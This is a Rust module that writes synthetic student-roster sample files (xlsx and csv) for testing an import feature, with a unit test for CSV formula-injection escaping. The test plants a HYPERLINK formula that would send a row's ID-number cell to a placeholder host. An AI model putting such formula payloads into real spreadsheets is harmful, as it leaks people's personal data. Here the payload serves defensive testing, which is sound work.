//! Sample roster files as the student information system exports them: a title row
//! above the header, header names that differ from ours, a column our synonyms do not
//! know (负责老师), and 学号 stored as text. For training and for end-to-end tests of
//! the import, so nobody needs a real roster with real ID numbers to try it.

use std::path::Path;

use rust_xlsxwriter::{Format, Workbook, XlsxError};

use crate::roster::Student;
use crate::tabular::CsvOut;

/// The header as the sample file writes it.
pub const HEADER: [&str; 15] = [
    "序号",
    "学生编号",
    "姓名",
    "性别",
    "证件号码",
    "二级学院",
    "专业",
    "班级名称",
    "年级",
    "学制",
    "所在校区",
    "教学点",
    "学籍",
    "届别",
    "负责老师",
];

/// Errors writing a sample file.
#[derive(Debug, thiserror::Error)]
pub enum SampleError {
    #[error("无法写入示例名单 .xlsx：{0}")]
    Xlsx(#[from] XlsxError),
    #[error("无法写入示例名单 {path}：{source}")]
    Io {
        path: String,
        source: std::io::Error,
    },
    #[error("示例名单只能写成 .xlsx 或 .csv：{0}")]
    Extension(String),
}

fn cells(i: usize, s: &Student) -> [String; 15] {
    let num = |v: Option<i32>| v.map(|n| n.to_string()).unwrap_or_default();
    [
        (i + 1).to_string(),
        s.student_no.to_string(),
        s.name.clone(),
        s.gender.map(|g| g.as_str().to_string()).unwrap_or_default(),
        s.id_number.clone().unwrap_or_default(),
        s.college.clone(),
        s.major.clone(),
        s.class_name.clone(),
        s.intake_year.map(|y| format!("{y}级")).unwrap_or_default(),
        s.duration_years
            .map(|d| format!("{d}年制"))
            .unwrap_or_default(),
        s.campus.clone(),
        s.site.clone(),
        s.enrolment_status.clone(),
        num(s.grad_year),
        s.counselor.clone(),
    ]
}

/// Writes `students` to `path`: .xlsx with a merged title row, or .csv (GBK when `gbk`,
/// else UTF-8 with BOM) as Excel saves it on a Chinese Windows.
pub fn write(path: &Path, title: &str, students: &[Student], gbk: bool) -> Result<(), SampleError> {
    let ext = path
        .extension()
        .and_then(|e| e.to_str())
        .unwrap_or("")
        .to_ascii_lowercase();
    match ext.as_str() {
        "xlsx" => write_xlsx(path, title, students),
        "csv" => write_csv(path, title, students, gbk),
        _ => Err(SampleError::Extension(path.display().to_string())),
    }
}

fn write_xlsx(path: &Path, title: &str, students: &[Student]) -> Result<(), SampleError> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("毕业生名单")?;
    let bold = Format::new().set_bold();
    sheet.merge_range(0, 0, 0, (HEADER.len() - 1) as u16, title, &bold)?;
    for (c, h) in HEADER.iter().enumerate() {
        sheet.write_string_with_format(1, c as u16, *h, &bold)?;
    }
    for (i, s) in students.iter().enumerate() {
        let row = (i + 2) as u32;
        for (c, v) in cells(i, s).iter().enumerate() {
            if c == 0 {
                sheet.write_number(row, 0, (i + 1) as f64)?;
            } else {
                sheet.write_string(row, c as u16, v)?;
            }
        }
    }
    let bytes = book.save_to_buffer()?;
    crate::store::write_private(path, &bytes).map_err(|source| SampleError::Io {
        path: path.display().to_string(),
        source,
    })
}

fn write_csv(path: &Path, title: &str, students: &[Student], gbk: bool) -> Result<(), SampleError> {
    let io = |source| SampleError::Io {
        path: path.display().to_string(),
        source,
    };
    // Through the one CSV writer, so a cell that starts like a formula is written as text.
    let mut w = CsvOut::new(Vec::new());
    let mut write = || -> csv::Result<()> {
        w.write_record([title])?;
        w.write_record(HEADER)?;
        for (i, s) in students.iter().enumerate() {
            w.write_record(cells(i, s))?;
        }
        Ok(())
    };
    write().map_err(|e| io(e.into()))?;
    let text = w
        .into_inner()
        .and_then(|b| String::from_utf8(b).map_err(std::io::Error::other))
        .map_err(io)?;
    let bytes = if gbk {
        encoding_rs::GBK.encode(&text).0.into_owned()
    } else {
        let mut b = vec![0xEF, 0xBB, 0xBF];
        b.extend_from_slice(text.as_bytes());
        b
    };
    // Made-up ID numbers, but ID numbers: private, like a real roster's exports.
    crate::store::write_private(path, &bytes).map_err(io)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::demo::{generate_roster, DemoOptions};

    /// The sample CSV goes through the one CSV writer: a name that starts like a formula
    /// is written with an apostrophe in front.
    #[test]
    fn a_formula_like_name_is_written_as_text() {
        let mut students = generate_roster(DemoOptions {
            students: 3,
            seed: 1,
            as_published: false,
        });
        students[0].name = "=HYPERLINK(\"http://x/?\"&E3,\"a\")".into();
        students[1].class_name = "+8613800000000".into();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("s.csv");
        write(&path, "示例名单", &students, false).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(&bytes[3..])
            .records()
            .map(Result::unwrap)
            .collect();
        assert_eq!(&rows[0][0], "示例名单");
        assert_eq!(rows[1].iter().collect::<Vec<_>>(), HEADER);
        assert_eq!(&rows[2][2], "'=HYPERLINK(\"http://x/?\"&E3,\"a\")");
        assert_eq!(&rows[3][7], "'+8613800000000");
        assert_eq!(&rows[4][2], students[2].name);
    }
}
